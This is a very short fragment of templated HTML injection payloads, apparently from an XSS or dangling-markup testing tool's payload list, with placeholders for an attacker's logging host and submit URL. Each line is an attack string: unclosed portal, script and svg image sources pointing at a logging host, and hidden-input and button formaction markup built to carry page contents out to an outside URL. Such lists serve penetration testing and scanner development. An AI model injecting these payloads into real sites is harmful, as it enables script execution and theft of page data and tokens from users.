  <portal src='‹xs.log›
  <script src='‹xs.log›
  <svg><image href='‹xs.log›
  <input type=hidden name=‹~1-4› value='
  <button name=‹~1-3› type=submit formaction='‹xs.url›'><option>'
`
